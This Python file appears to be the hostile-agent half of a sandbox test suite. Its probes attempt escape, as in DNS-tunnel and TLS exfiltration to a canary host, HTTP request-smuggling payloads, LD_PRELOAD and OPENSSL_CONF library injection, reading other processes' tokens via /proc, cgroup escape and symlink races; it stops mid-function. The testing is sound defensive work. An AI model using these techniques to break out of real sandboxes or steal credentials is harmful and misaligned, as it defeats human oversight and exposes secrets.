#!/usr/bin/python3
"""agent.py - the hostile agent of the adversarial suite. It runs INSIDE a
real sandbox (or, for positive controls, outside it) and tries to get out:
each named probe prints one line `RESULT {json}` with what the kernel or the
proxy answered. It never judges pass/fail (the tests do) and never retries a
refused attempt another way. `BARRIER name` lines stop it until the harness
creates DIR/gate-name.

usage: agent.py DIR PROBE...   (DIR holds config.json, written at barrier
"start"; a probe named before "start" runs before the harness touched
anything)."""
import ctypes
import errno
import json
import os
import select
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

DIR = sys.argv[1] if len(sys.argv) > 1 else "/nonexistent"
CFG = {}
PROBES = {}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def probe(fn):
    PROBES[fn.__name__] = fn
    return fn


def ename(e):
    n = e if isinstance(e, int) else e.errno
    return errno.errorcode.get(n, str(n)) if n else "timeout"


def syscall(nr, *args):
    cargs = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    rc = libc.syscall(ctypes.c_long(nr), *cargs)
    return "OK" if rc >= 0 else ename(ctypes.get_errno())


def barrier(name):
    print(f"BARRIER {name}", flush=True)
    gate = os.path.join(DIR, f"gate-{name}")
    end = time.monotonic() + 60
    while not os.path.exists(gate):
        if time.monotonic() > end:
            raise SystemExit(f"barrier {name} never released")
        time.sleep(0.01)
    if name == "start":
        with open(os.path.join(DIR, "config.json")) as f:
            CFG.update(json.load(f))


# ---- network helpers -------------------------------------------------------
def tcp(host, port, family=socket.AF_INET, timeout=3):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    t0 = time.monotonic()
    try:
        s.connect((host, int(port)))
        return {"ok": True}
    except OSError as e:
        return {"ok": False, "errno": ename(e), "ms": int((time.monotonic() - t0) * 1000)}
    finally:
        s.close()


def udp(host, port, payload, timeout=1.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(payload, (host, int(port)))
        data, _ = s.recvfrom(2048)
        return {"ok": True, "reply": len(data)}
    except OSError as e:
        return {"ok": False, "errno": ename(e) if e.errno else "timeout"}
    finally:
        time.sleep(0.3)  # keep the socket so the bypass record can name its owner
        s.close()


def dns_query(name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x10\x00\x01"  # TXT


def proxy_addr():
    url = os.environ.get("HTTP_PROXY", "")
    host, port = url.split("//", 1)[-1].rstrip("/").rsplit(":", 1)
    return host, int(port)


def recv_all(s, timeout=5, limit=1 << 20):
    s.settimeout(timeout)
    out = b""
    try:
        while len(out) < limit:
            chunk = s.recv(65536)
            if not chunk:
                break
            out += chunk
            if response_complete(out):
                break
    except socket.timeout:
        pass
    except OSError as e:
        if not out:
            return ("error", ename(e))
    return out


def response_complete(data):
    head, sep, body = data.partition(b"\r\n\r\n")
    if not sep:
        return False
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"content-length":
            return len(body) >= int(v.strip())
    return False


def parse(resp):
    if isinstance(resp, tuple):
        return {"status": 0, "error": resp[1]}
    if not resp:
        return {"status": 0, "error": "closed"}
    head, _, body = resp.partition(b"\r\n\r\n")
    first = head.split(b"\r\n", 1)[0].split()
    r = {"status": int(first[1]) if len(first) > 1 and first[1].isdigit() else -1}
    hdrs = {}
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        hdrs[k.strip().lower().decode("latin-1")] = v.strip().decode("latin-1")
    r["headers"] = hdrs
    try:
        r["json"] = json.loads(body)
    except ValueError:
        r["body"] = body[:400].decode("latin-1")
    return r


def proxy_raw(data, timeout=5):
    s = socket.create_connection(proxy_addr(), timeout=timeout)
    try:
        s.sendall(data)
        return parse(recv_all(s, timeout))
    finally:
        s.close()


def get_abs(url, headers=(), method="GET", body=b""):
    host = url.split("//", 1)[1].split("/", 1)[0]
    req = f"{method} {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
    for h in headers:
        req += h + "\r\n"
    if body:
        req += f"Content-Length: {len(body)}\r\n"
    return proxy_raw(req.encode() + b"\r\n" + body)


def tunnel(host, port, timeout=5):
    """CONNECT through the proxy; returns (socket or None, parsed answer)."""
    s = socket.create_connection(proxy_addr(), timeout=timeout)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    s.settimeout(timeout)
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            break
        head += chunk
    r = parse(head)
    if r["status"] != 200:
        r = parse(head + recv_all(s, 2))
        s.close()
        return None, r
    return s, r


def tls_request(host, port, path, headers=(), sni=None, method="GET", body=b"", host_hdr=None):
    s, r = tunnel(host, port)
    if not s:
        return {"connect": r}
    ctx = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))
    ctx.check_hostname = False
    try:
        t = ctx.wrap_socket(s, server_hostname=sni or host)
    except (ssl.SSLError, OSError) as e:
        s.close()
        return {"connect": r, "tls_error": str(e)[:200]}
    req = f"{method} {path} HTTP/1.1\r\nHost: {host_hdr or host}\r\nConnection: close\r\n"
    for h in headers:
        req += h + "\r\n"
    if body:
        req += f"Content-Length: {len(body)}\r\n"
    try:
        t.sendall(req.encode() + b"\r\n" + body)
        return parse(recv_all(t))
    finally:
        t.close()


def run(argv, env=None, timeout=20):
    e = dict(os.environ, **(env or {}))
    p = subprocess.run(argv, capture_output=True, text=True, env=e, timeout=timeout)
    return {"rc": p.returncode, "out": p.stdout[-2000:], "err": p.stderr[-600:]}


def curl(url, binary="/usr/bin/curl", env=None, extra=()):
    r = run([binary, "-s", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", *extra, url],
            env=env)
    r["code"] = int(r["out"] or 0) if r["out"].isdigit() else 0
    return r


# ---- network egress bypass ---------------------------------------------------
@probe
def net_first_instruction():
    """Before the harness touches anything: the fence must already stand."""
    return {"tcp": tcp(CFG["canary"], 8080), "proxy": tcp(*proxy_addr())}


@probe
def net_tcp_canary():
    return {p: tcp(CFG["canary"], p) for p in ("8080", "443", "22")}


@probe
def net_tcp_canary_443_tls():
    """443 is the transparent path's: the connection reaches the proxy, and
    a ClientHello naming anything the policy does not allow is refused."""
    ctx = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))
    try:
        with socket.create_connection((CFG["canary"], 443), timeout=15) as s:
            with ctx.wrap_socket(s, server_hostname="exfil.canary.test") as t:
                t.sendall(b"GET /exfil HTTP/1.1\r\nHost: exfil.canary.test\r\n\r\n")
                return parse(recv_all(t))
    except (ssl.SSLError, OSError) as e:
        return {"error": str(e)[:200]}


@probe
def net_udp_dns_tunnel():
    """Redirected to the supervisor's DNS stub, which never looks the name up."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.sendto(dns_query("c2VjcmV0.exfil.canary.test"), (CFG["canary"], 53))
        data, peer = s.recvfrom(2048)
        return {"ok": True, "rcode": data[3] & 0xf, "peer": peer[0]}
    except OSError as e:
        return {"ok": False, "errno": ename(e) if e.errno else "timeout"}
    finally:
        s.close()


@probe
def net_udp_quic():
    return udp(CFG["canary"], 443, b"\xc3\x00\x00\x00\x01\x08quicexfil" + b"\x00" * 64)


@probe
def net_udp_ntp():
    return udp(CFG["canary"], 123, b"\x1b" + b"\x00" * 47)


@probe
def net_raw_socket():
    out = {}
    for name, args in (("raw_icmp", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
                       ("raw_tcp", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
                       ("raw_v6", (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)),
                       ("ping_dgram", (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
                       ("packet", (17, socket.SOCK_RAW, 0x0300)),
                       ("netlink_netfilter", (socket.AF_NETLINK, socket.SOCK_RAW, 12)),
                       ("netlink_route", (socket.AF_NETLINK, socket.SOCK_RAW, 0))):
        try:
            socket.socket(*args).close()
            out[name] = "OK"
        except OSError as e:
            out[name] = ename(e)
    return out


@probe
def net_ipv6():
    return {"global": tcp("2001:db8::1", 80, socket.AF_INET6),
            "mapped_canary": tcp(f"::ffff:{CFG['canary']}", 8080, socket.AF_INET6),
            "loopback": loopback_v6()}


def loopback_v6():
    s = socket.socket(socket.AF_INET6)
    s.bind(("::1", 0))
    s.listen()
    c = socket.socket(socket.AF_INET6)
    try:
        c.connect(s.getsockname()[:2])
        return {"ok": True}
    except OSError as e:
        return {"ok": False, "errno": ename(e)}
    finally:
        c.close()
        s.close()


@probe
def net_veth_peer_ports():
    h = CFG["host_addr"]
    out = {str(p): tcp(h, p) for p in (22, 53, 80, 3129, 8080, 10250)}
    out["proxy"] = tcp(*proxy_addr())
    out["udp53"] = udp(h, 53, dns_query("peer.test"))
    return out


@probe
def net_abstract_unix():
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect("\0" + CFG["host_abstract"])
        host = "OK"
    except OSError as e:
        host = ename(e)
    finally:
        s.close()
    own = socket.socket(socket.AF_UNIX)
    own.bind("\0osadv-agent-own")
    own.listen()
    c = socket.socket(socket.AF_UNIX)
    try:
        c.connect("\0osadv-agent-own")
        mine = "OK"
    except OSError as e:
        mine = ename(e)
    c.close()
    own.close()
    return {"host": host, "own": mine}


@probe
def net_proc_net():
    port = CFG["host_listen_port"]
    seen = {}
    for name in ("tcp", "tcp6", "udp", "unix"):
        try:
            with open(f"/proc/net/{name}") as f:
                text = f.read()
        except OSError as e:
            seen[name] = ename(e)
            continue
        seen[name] = (f":{port:04X} " in text) or (CFG["host_abstract"] in text)
    return seen


@probe
def net_netlink_tamper():
    out = {"ip_route_add": run(["ip", "route", "add", "203.0.113.0/24", "dev", "eth0"]),
           "ip_link_down": run(["ip", "link", "set", "eth0", "down"]),
           "nft_flush": run(["/usr/sbin/nft", "flush", "ruleset"]),
           "sysctl_forward": write_file("/proc/sys/net/ipv4/ip_forward", "1")}
    out["ip_route_show"] = run(["ip", "route", "show"])
    return out


@probe
def net_proxy_control():
    return get_abs("http://upstream.test/net-control")


# ---- proxy parsing -------------------------------------------------------------
SMUGGLE = {
    "cl_te": b"GET http://upstream.test/smuggled-a HTTP/1.1\r\nHost: upstream.test\r\n"
             b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "te_cl": b"GET http://upstream.test/smuggled-b HTTP/1.1\r\nHost: upstream.test\r\n"
             b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
    "dup_cl": b"GET http://upstream.test/smuggled-c HTTP/1.1\r\nHost: upstream.test\r\n"
              b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    "obs_fold": b"GET http://upstream.test/smuggled-d HTTP/1.1\r\nHost: upstream.test\r\n"
                b"X-A: b\r\n c\r\n\r\n",
    "bare_lf": b"GET http://upstream.test/smuggled-e HTTP/1.1\nHost: upstream.test\n\n",
    "te_xchunked": b"GET http://upstream.test/smuggled-f HTTP/1.1\r\nHost: upstream.test\r\n"
                   b"Transfer-Encoding: xchunked\r\n\r\n",
    "space_colon": b"GET http://upstream.test/smuggled-g HTTP/1.1\r\nHost: upstream.test\r\n"
                   b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "nul_header": b"GET http://upstream.test/smuggled-h HTTP/1.1\r\nHost: upstream.test\r\n"
                  b"X-A: a\x00b\r\n\r\n",
    "two_hosts": b"GET http://upstream.test/smuggled-i HTTP/1.1\r\nHost: upstream.test\r\n"
                 b"Host: canary.test\r\n\r\n",
    "host_confusion": b"GET http://upstream.test/smuggled-j HTTP/1.1\r\nHost: other.test\r\n\r\n",
    "https_absolute": b"GET https://upstream.test/smuggled-k HTTP/1.1\r\nHost: upstream.test\r\n\r\n",
    "origin_form": b"GET /smuggled-l HTTP/1.1\r\nHost: upstream.test\r\n\r\n",
    "userinfo": b"GET http://upstream.test@canary.test:8080/smuggled-m HTTP/1.1\r\n"
                b"Host: upstream.test@canary.test:8080\r\n\r\n",
    "http10_no_host": b"GET http://canary.test:8080/smuggled-n HTTP/1.0\r\n\r\n",
    "pipelined_connect": b"CONNECT other.test:8443 HTTP/1.1\r\nHost: other.test:8443\r\n\r\n"
                         b"GET / HTTP/1.1\r\n\r\n",
    "chunk_smuggle": b"POST http://upstream.test/smuggled-o HTTP/1.1\r\nHost: upstream.test\r\n"
                     b"Transfer-Encoding: chunked\r\n\r\n"
                     b"5;a=b\nhello\r\n0\r\n\r\nGET http://upstream.test/smuggled-p HTTP/1.1\r\n"
                     b"Host: upstream.test\r\n\r\n",
}


@probe
def px_smuggling():
    return {k: proxy_raw(v) for k, v in SMUGGLE.items()}


@probe
def px_connect_targets():
    out = {}
    for t in ("198.51.100.200:8443", "127.0.0.1:3128", "localhost:3128", "[::1]:80",
              "0x7f000001:80", "2130706433:80", "canary.test:8080", "203.0.113.1:8080",
              "other.test:8443.canary.test", "other.test:8443"):
        s, r = tunnel(*t.rsplit(":", 1)) if t.count(":") == 1 or t.startswith("[") else (None, None)
        if r is None:
            r = proxy_raw(f"CONNECT {t} HTTP/1.1\r\nHost: {t}\r\n\r\n".encode())
        if s:
            s.close()
        out[t] = r
    return out


@probe
def px_oversize_header():
    big = b"X-Big: " + b"a" * 20000 + b"\r\n"
    many = b"".join(b"X-%d: v\r\n" % i for i in range(300))
    return {"big": proxy_raw(b"GET http://upstream.test/big HTTP/1.1\r\nHost: upstream.test\r\n"
                             + big + b"\r\n"),
            "many": proxy_raw(b"GET http://upstream.test/many HTTP/1.1\r\nHost: upstream.test\r\n"
                              + many + b"\r\n"),
            "long_target": get_abs("http://upstream.test/" + "a" * 10000)}


@probe
def px_slow_headers():
    """Slowloris: a head that never completes is answered 408 and closed,
    while a normal request on another connection is served meanwhile."""
    socks = []
    for i in range(20):
        s = socket.create_connection(proxy_addr(), timeout=20)
        s.sendall(b"GET http://upstream.test/slow HTTP/1.1\r\nHost: upst")
        socks.append(s)
    during = get_abs("http://upstream.test/during-slowloris")
    t0 = time.monotonic()
    answers = [parse(recv_all(s, 20)) for s in socks]
    for s in socks:
        s.close()
    return {"during": during, "statuses": sorted({a["status"] for a in answers}),
            "waited_s": round(time.monotonic() - t0, 1), "sample": answers[0]}


@probe
def px_keepalive_across_reload():
    """Same kept-alive connection: request 1 allowed, policy changes, request 2."""
    s = socket.create_connection(proxy_addr(), timeout=5)
    req = lambda p: (f"GET http://upstream.test{p} HTTP/1.1\r\nHost: upstream.test\r\n\r\n"
                     .encode())
    s.sendall(req("/keepalive-1"))
    first = parse(recv_all(s))
    t, tr = tunnel("other.test", 8443)
    barrier("reload")
    try:
        s.sendall(req("/keepalive-2"))
        second = parse(recv_all(s))
    except OSError as e:
        second = {"status": 0, "error": ename(e)}
    s.close()
    tunnel_after = "no tunnel"
    if t:
        t.settimeout(3)
        try:
            t.sendall(b"\x16\x03\x01\x00\x05hello")
            tunnel_after = "eof" if t.recv(100) == b"" else "data"
        except OSError as e:
            tunnel_after = ename(e)
        t.close()
    return {"first": first, "second": second, "tunnel_before": tr["status"],
            "tunnel_after": tunnel_after}


@probe
def px_invalid_reload_keeps_policy():
    barrier("bad-reload")
    return {"allowed": get_abs("http://upstream.test/after-bad-reload"),
            "denied": get_abs("http://canary.test:8080/after-bad-reload")}


# ---- identity spoofing ---------------------------------------------------------------
BIN = "http://binonly.test:8000"


@probe
def id_curl_allowed():
    return curl(f"{BIN}/id-curl")


@probe
def id_python_denied():
    return get_abs(f"{BIN}/id-python")


@probe
def id_copied_binary():
    shutil.copy("/usr/bin/curl", "/tmp/curl-copy")
    return curl(f"{BIN}/id-copy", binary="/tmp/curl-copy")


@probe
def id_hardlink():
    out = {}
    try:
        os.link("/usr/bin/curl", "/tmp/curl-link")
        out["link"] = "OK"
        out["curl"] = curl(f"{BIN}/id-link", binary="/tmp/curl-link")
    except OSError as e:
        out["link"] = ename(e)
    with open("/tmp/own", "w") as f:
        f.write("x")
    try:
        os.link("/tmp/own", "/tmp/own-link")
        out["control"] = "OK"
    except OSError as e:
        out["control"] = ename(e)
    return out


@probe
def id_symlink_to_allowed():
    os.symlink("/usr/bin/curl", "/tmp/curl-sym")
    return curl(f"{BIN}/id-symlink", binary="/tmp/curl-sym")


@probe
def id_dynamic_loader():
    ld = "/lib64/ld-linux-x86-64.so.2"
    r = run([ld, "/usr/bin/curl", "-s", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}",
             f"{BIN}/id-ldso"])
    r["code"] = int(r["out"]) if r["out"].isdigit() else 0
    return r


@probe
def id_replace_after_use():
    shutil.copy("/usr/bin/curl", "/tmp/tool")
    os.chmod("/tmp/tool", 0o755)
    first = curl("http://binonly.test/tool-1", binary="/tmp/tool")
    shutil.copy("/bin/busybox", "/tmp/tool.new")
    os.chmod("/tmp/tool.new", 0o755)
    os.rename("/tmp/tool.new", "/tmp/tool")
    # argv[0] "busybox" so it runs its wget applet; the executable is /tmp/tool.
    p = subprocess.run(["busybox", "wget", "-q", "-O", "-", "http://binonly.test/tool-2"],
                       executable="/tmp/tool", capture_output=True, text=True, timeout=20)
    second = {"rc": p.returncode, "out": p.stdout[-500:], "err": p.stderr[-500:]}
    try:  # writing the allowed system binary in place
        open("/usr/bin/curl", "r+b").close()
        system = "OK"
    except OSError as e:
        system = ename(e)
    return {"first": first, "second": second, "write_usr_bin_curl": system}


@probe
def id_ld_preload():
    """The attacker's library, written where the agent can write (/tmp),
    preloaded into allowed curl: its constructor makes its own request."""
    built = os.path.join(DIR, "preload_relay.so")
    if not os.path.exists(built):
        return {"skipped": "no compiler"}
    lib = "/tmp/preload_relay.so"
    shutil.copy(built, lib)
    os.chmod(lib, 0o755)
    return curl(f"{BIN}/preload-cover", env={"LD_PRELOAD": lib})


@probe
def id_openssl_conf():
    """OPENSSL_CONF loads provider modules without any LD_* variable: a
    config the agent wrote makes curl load the attacker's library."""
    built = os.path.join(DIR, "preload_relay.so")
    if not os.path.exists(built):
        return {"skipped": "no compiler"}
    shutil.copy(built, "/tmp/evil_provider.so")
    with open("/tmp/evil.cnf", "w") as f:
        f.write("openssl_conf = init\n[init]\nproviders = prov\n"
                "[prov]\nevil = evil_sect\n[evil_sect]\nmodule = /tmp/evil_provider.so\n"
                "activate = 1\n")
    injected = curl(f"{BIN}/openssl-conf-evil", env={"OPENSSL_CONF": "/tmp/evil.cnf"})
    # Control: a configuration from the read-only tree is no injection.
    system = curl(f"{BIN}/openssl-conf-system", env={"OPENSSL_CONF": "/etc/ssl/openssl.cnf"})
    return {"injected": injected, "system": system}


@probe
def id_relay_denied_via_allowed():
    """python (denied) has curl (allowed) fetch for it."""
    return curl(f"{BIN}/relay-by-curl")


@probe
def id_child_of_allowed_interpreter():
    """python is allowed for api.test:8000; a busybox wget it starts is not listed."""
    return {"python": get_abs("http://api.test:8000/interp-python"),
            "child": run(["/bin/busybox", "wget", "-q", "-O", "-",
                          "http://api.test:8000/interp-child"])}


# ---- identity across socket families and shared sockets (test_identity_sharing.py) ------
LD_SO = "/lib64/ld-linux-x86-64.so.2"  # python3 under it is another binary: ld.so
SHARE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "sock_share.py")
JAVA = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"


def with_status(r):
    """The program's last output line is its JSON answer."""
    try:
        r.update(json.loads(r["out"].strip().splitlines()[-1]))
    except (ValueError, IndexError):
        r["status"] = 0
    return r


def share(move, url, as_loader=False):
    host, port = proxy_addr()
    argv = [sys.executable, SHARE, move, host, str(port), url, LD_SO]
    return with_status(run([LD_SO, *argv] if as_loader else argv, timeout=40))


def java_get(url):
    host, port = proxy_addr()
    return with_status(run([JAVA, os.path.join(os.path.dirname(SHARE), "JavaGet.java"), host,
                            str(port), url], timeout=60))


@probe
def sh_families():
    """ld.so-python is allowed for other.test, plain python3 is not."""
    return {"v6_allowed": share("v6", "http://other.test:8000/sh-v6-allowed", as_loader=True),
            "v6_denied": share("v6", "http://other.test:8000/sh-v6-denied"),
            "v4_allowed": share("fork-shared", "http://other.test:8000/sh-v4-allowed",
                                as_loader=True),
            "java": java_get("http://upstream.test:8000/sh-java"),
            "java_denied": java_get("http://other.test:8000/sh-java-denied")}


@probe
def sh_passing():
    return {"pass_drop": share("pass-drop", "http://other.test:8000/sh-pass-drop"),
            "pass_keep": share("pass-keep", "http://other.test:8000/sh-pass-keep"),
            "share_denied": share("share-denied", "http://other.test:8000/sh-share-denied",
                                  as_loader=True),
            "exit_now": share("exit-now", "http://other.test:8000/sh-exit-now")}


@probe
def sh_fdpass():
    """Inet sockets changing hands by descriptor passing (fdpass_guard)."""
    return {"park": share("park", "http://other.test:8000/sh-park"),
            "send_fds": share("send-fds", "http://other.test:8000/sh-send-fds"),
            "lend": share("lend", "http://other.test:8000/sh-lend"),
            "files": share("pass-files", "-")}


@probe
def cg_escape():
    """Leave the sandbox's cgroup (the fd-passing guard and caller identity
    are bound to it): move into every other cgroup.procs in sight, make a
    child cgroup of our own, take a new cgroup namespace."""
    moved, made = [], []
    for root, dirs, files in os.walk("/sys/fs/cgroup"):
        if "cgroup.procs" in files:
            try:
                with open(os.path.join(root, "cgroup.procs"), "w") as f:
                    f.write("0")
                moved.append(root)
            except OSError:
                pass
        if root.count("/") > 6:
            dirs[:] = []
    mine = [l for l in open("/proc/self/cgroup").read().splitlines() if l.startswith("0::")]
    for d in ("/sys/fs/cgroup/unified" + (mine[0][3:] if mine else ""),):
        try:
            os.mkdir(os.path.join(d, "escape"))
            made.append(d)
        except OSError:
            pass
    try:
        os.unshare(os.CLONE_NEWCGROUP)
        unshared = True
    except (OSError, AttributeError):
        unshared = False
    return {"moved": moved, "made": made, "unshared": unshared, "cgroup": mine,
            "after": [l for l in open("/proc/self/cgroup").read().splitlines()
                      if l.startswith("0::")]}


# ---- credential leakage -------------------------------------------------------------
PH = "openshell:resolve:env:GITHUB_TOKEN"


@probe
def cr_environment():
    leaks = []
    secret_hint = os.environ.get("GITHUB_TOKEN", "")
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    data = f.read()
            except OSError:
                continue
            if b"GITHUB_TOKEN=" in data and PH.encode() not in data:
                leaks.append(f"{pid}/{what}")
    return {"env": secret_hint, "leaks": leaks}


@probe
def cr_bound_endpoint():
    return tls_request("creds.test", 443, "/cred-bound", [f"Authorization: Bearer {PH}"])


@probe
def cr_unbound_endpoint():
    return {"tls": tls_request("api.test", 443, "/cred-unbound", [f"Authorization: Bearer {PH}"]),
            "plain": get_abs("http://upstream.test/cred-plain", [f"Authorization: Bearer {PH}"]),
            "custom_header": tls_request("api.test", 443, "/cred-x", [f"X-Token: {PH}"])}


@probe
def cr_smuggled_in_query_and_body():
    return {"query": tls_request("creds.test", 443, f"/cred-query?t={PH}"),
            "body": tls_request("creds.test", 443, "/cred-body", method="POST",
                                body=f'{{"token":"{PH}"}}'.encode())}


@probe
def cr_unknown_key():
    return tls_request("creds.test", 443, "/cred-unknown",
                       ["Authorization: Bearer openshell:resolve:env:AWS_SECRET"])


@probe
def cr_host_and_sni_mismatch():
    return {"host": tls_request("creds.test", 443, "/cred-host", [f"Authorization: Bearer {PH}"],
                                host_hdr="api.test"),
            "sni": tls_request("creds.test", 443, "/cred-sni", [f"Authorization: Bearer {PH}"],
                               sni="api.test")}


@probe
def cr_echoed_back():
    r = tls_request("creds.test", 443, "/cred-echo", [f"Authorization: Bearer {PH}"])
    echoed = (r.get("json") or {}).get("headers", {}).get("authorization", "")
    return {"status": r.get("status"), "echoed": echoed}


# ---- filesystem -----------------------------------------------------------------------
def open_errno(path, mode="r"):
    try:
        with open(path, mode.replace("b", "") + "b") as f:
            if "r" in mode:
                f.read(16)
        return "OK"
    except OSError as e:
        return ename(e)


def write_file(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        return "OK"
    except OSError as e:
        return ename(e)


@probe
def fs_outside_paths():
    s = CFG["secret_file"]
    os.symlink(s, "/tmp/secret-sym")
    return {"direct": open_errno(s), "symlink": open_errno("/tmp/secret-sym"),
            "proc_root": open_errno(f"/proc/self/root{s}"),
            "proc_1_root": open_errno(f"/proc/1/root{s}"),
            "control_readable": open_errno(os.path.join(DIR, "config.json")),
            "control_tmp": write_file("/tmp/ok", "x")}


@probe
def fs_link_tricks():
    s = CFG["secret_file"]
    out = {}
    try:
        os.link(s, "/tmp/secret-hard")
        out["hardlink"] = "OK"
    except OSError as e:
        out["hardlink"] = ename(e)
    try:
        os.rename(os.path.join(DIR, "config.json"), "/tmp/stolen")
        out["rename_out"] = "OK"
    except OSError as e:
        out["rename_out"] = ename(e)
    return out


@probe
def fs_symlink_race():
    """Swaps /tmp/race between a file the agent owns and a symlink to the
    secret while another thread keeps opening it."""
    s = CFG["secret_file"]
    stop = time.monotonic() + 1.0
    with open("/tmp/race-file", "w") as f:
        f.write("harmless")

    def swapper():
        while time.monotonic() < stop:
            for target in ("/tmp/race-file", s):
                try:
                    os.symlink(target, "/tmp/race.tmp")
                    os.rename("/tmp/race.tmp", "/tmp/race")
                except OSError:
                    pass

    th = threading.Thread(target=swapper)
    th.start()
    got = {"harmless": 0, "secret": 0, "denied": 0}
    while time.monotonic() < stop:
        try:
            with open("/tmp/race") as f:
                data = f.read(64)
            got["secret" if data.startswith("SECRET") else "harmless"] += 1
        except OSError:
            got["denied"] += 1
    th.join()
    return got


@probe
def fs_proc_sys_and_devices():
    out = {"write_proc_sys_hostname": write_file("/proc/sys/kernel/hostname", "evil"),
           "write_core_pattern": write_file("/proc/sys/kernel/core_pattern", "|/tmp/x"),
           "read_proc_sys": open_errno("/proc/sys/kernel/ostype"),
           "dev_mem": open_errno("/dev/mem"), "dev_kmsg": open_errno("/dev/kmsg", "w"),
           "dev_null_write": write_file("/dev/null", "x"),
           "dev_urandom": open_errno("/dev/urandom")}
    try:
        os.mknod("/tmp/sda", 0o600 | 0o60000, os.makedev(8, 0))
        out["mknod"] = "OK"
    except OSError as e:
        out["mknod"] = ename(e)
    try:
        os.mkfifo("/tmp/fifo")
        out["mkfifo_control"] = "OK"
    except OSError as e:
        out["mkfifo_control"] = ename(e)
    return out


@probe
def fs_supervisor_files():
    return {"audit": open_errno(CFG["audit"], "a"), "policy": open_errno(CFG["policy"], "a"),
            "policy_read": open_errno(CFG["policy"]),
            "run_dir_write": write_file(CFG["ca_file"], "evil"),
            "run_dir_read": open_errno(CFG["ca_file"]),
            "run_dir_create": write_file(os.path.join(os.path.dirname(CFG["ca_file"]), "x"), "x"),
            "sup_proc": open_errno(f"/proc/{CFG['supervisor_pid']}/status")}


# ---- syscalls / kernel -----------------------------------------------------------------
NR = {"io_uring_setup": 425, "bpf": 321, "userfaultfd": 323, "unshare": 272, "memfd_create": 319,
      "execveat": 322, "perf_event_open": 298, "keyctl": 250, "ptrace": 101, "kill": 62,
      "setns": 308, "mount": 165, "init_module": 175, "kexec_load": 246}


def in_child(nr, *args):
    """A call that would change this process (a namespace): made in a child."""
    pid = os.fork()
    if pid == 0:
        rc = syscall(nr, *args)
        os._exit(0 if rc == "OK" else getattr(errno, rc, 250))
    _, st = os.waitpid(pid, 0)
    code = os.waitstatus_to_exitcode(st)
    return "OK" if code == 0 else ename(code)


@probe
def sys_kernel_surface():
    """Arguments that fail early when allowed, so the outside control
    (run as root on the host) changes nothing."""
    out = {"io_uring_setup": syscall(NR["io_uring_setup"], 1, None),
           "bpf_map_create": syscall(NR["bpf"], 0, None, 0),
           "userfaultfd": syscall(NR["userfaultfd"], 0),
           "unshare_user": in_child(NR["unshare"], 0x10000000),
           "unshare_net": in_child(NR["unshare"], 0x40000000),
           "perf_event_open": syscall(NR["perf_event_open"], None, 0, -1, -1, 0),
           "keyctl": syscall(NR["keyctl"], 0, 0, 0, 0, 0),
           "mount": syscall(NR["mount"], None, None, None, 0, None),
           "init_module": syscall(NR["init_module"], None, 0, None),
           "kexec_load": syscall(NR["kexec_load"], 0, 0, None, -1),
           "getpid_control": syscall(39)}
    return out


@probe
def sys_memfd_exec():
    fd = libc.syscall(ctypes.c_long(NR["memfd_create"]), ctypes.c_char_p(b"x"), ctypes.c_long(1))
    if fd < 0:
        return {"memfd": ename(ctypes.get_errno())}
    with open("/bin/true", "rb") as f:
        os.write(fd, f.read())
    argv = (ctypes.c_char_p * 2)(b"x", None)
    envp = (ctypes.c_char_p * 1)(None)
    # Path-based execveat (no AT_EMPTY_PATH) stays allowed: ENOENT, not EPERM.
    e_at = syscall(NR["execveat"], fd, ctypes.c_char_p(b"/nonexistent-dir/../x"), None, None, 0)
    r = {"memfd": "OK"}
    pid = os.fork()
    if pid == 0:
        libc.syscall(ctypes.c_long(NR["execveat"]), ctypes.c_long(fd), ctypes.c_char_p(b""), argv,
                     envp, ctypes.c_long(0x1000))
        os._exit(min(ctypes.get_errno(), 250))
    _, st = os.waitpid(pid, 0)
    code = os.waitstatus_to_exitcode(st)
    r["execveat_errno"] = "OK" if code == 0 else ename(code)
    pid = os.fork()
    if pid == 0:
        try:
            os.execv(f"/proc/self/fd/{fd}", ["x"])
        except OSError as e:
            os._exit(min(e.errno, 250))
    _, st = os.waitpid(pid, 0)
    code = os.waitstatus_to_exitcode(st)
    r["proc_fd_exec"] = "OK" if code == 0 else ename(code)
    r["execveat_path_control"] = e_at
    os.close(fd)
    return r


@probe
def sys_probe_binary():
    out = {}
    p = subprocess.run([CFG["probe_bin"], "syscalls"], capture_output=True, text=True)
